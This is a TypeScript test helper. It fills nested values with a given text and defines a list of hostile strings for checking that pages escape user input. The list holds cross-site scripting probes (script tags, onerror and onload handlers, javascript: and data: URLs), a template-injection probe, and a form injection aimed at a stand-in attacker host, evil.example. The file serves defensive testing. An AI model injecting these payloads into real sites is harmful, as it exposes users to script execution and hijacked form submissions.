/** Names and parameters that an attacker would choose. */

const notFreeText = ['page', 'part', 'kind', 'look', 'script', 'problem', 'problems', 'method', 'locale'];

/** Replaces every string in a value, and the names of hidden fields. Strings that are not free text or have a key in `keep` stay. */
export function fill<Value>(value: Value, text: string, keep: readonly string[] = [], key = ''): Value {
  if (typeof value === 'string') {
    return (notFreeText.includes(key) || keep.includes(key) ? value : text) as Value;
  }
  if (Array.isArray(value)) return value.map((item) => fill(item, text, keep, key)) as Value;
  // Markup is not text. The functions that make markup have other tests.
  if (typeof value !== 'object' || value === null || Object.getPrototypeOf(value) !== Object.prototype) return value;
  const entries = Object.entries(value).map(([name, item]) => [key === 'fields' ? text : name, fill(item, text, keep, name)]);
  return Object.fromEntries(entries) as Value;
}

/** Texts that would become markup, script or a foreign address on a page that does not escape them. */
export const hostileTexts = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onfocus=alert(1) autofocus x='",
  '</title></style></textarea><svg onload=alert(1)>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '&lt;script&gt;&#x3c;',
  '{{7*7}}`);',
  '\u202e<!--',
  '"/><form action=//evil.example><input name=csrf>',
];
